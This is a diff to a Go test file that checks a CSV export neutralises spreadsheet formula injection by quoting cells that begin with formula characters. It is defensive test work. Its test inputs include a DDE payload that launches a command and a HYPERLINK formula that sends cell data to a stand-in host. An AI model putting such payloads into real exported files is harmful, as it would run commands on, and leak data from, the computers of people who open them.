@@ -3,6 +3,7 @@ package page
 import (
 	"encoding/csv"
 	"encoding/json"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -47,9 +48,43 @@ func TestExportRows(t *testing.T) {
 
 // A cell a spreadsheet would run as a formula is written as text.
 func TestCSVText(t *testing.T) {
-	for in, want := range map[string]string{"=1+1": "'=1+1", "+cmd": "'+cmd", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "aws": "aws", "": ""} {
+	for in, want := range map[string]string{"=1+1": "'=1+1", "+cmd": "'+cmd", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
+		"\r=1": "'\r=1", "\n=HYPERLINK(\"http://x.example\")": "'\n=HYPERLINK(\"http://x.example\")", "aws": "aws", "": ""} {
 		if got := CSVText(in); got != want {
 			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
+		}
+	}
+	for in, want := range map[string]string{"-0.5": "-0.5", "1e3": "1e3", "12.50": "12.50", "-Inf": "'-Inf", "+NaN": "'+NaN", "-2+3": "'-2+3", "—": "—"} {
+		if got := CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestExportCSVInert: a price sheet's free-text source (and every other
+// text an offer carries) reaches the CSV export as text, never as a
+// formula, whichever of OWASP's formula characters it starts with.
+func TestExportCSVInert(t *testing.T) {
+	_, in := viewOf(t, "", nil)
+	if len(in.Plan.Cands) == 0 {
+		t.Fatal("no plans")
+	}
+	for _, bad := range []string{"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=HYPERLINK(\"http://x.example/?\"&A1)"} {
+		o := *in.Plan.Cands[0].Offer
+		o.Source, o.Provider, o.InstanceType, o.Currency, o.AsOf = bad, bad, bad, bad, bad
+		in.Plan.Cands[0].Offer = &o
+		recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		row := recs[len(in.Plan.Picks)+1]
+		for i, cell := range row {
+			if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
+				t.Errorf("%q: column %s is %q", bad, recs[0][i], cell)
+			}
+		}
+		if row[13] != "'"+bad {
+			t.Errorf("%q: source %q", bad, row[13])
 		}
 	}
 }
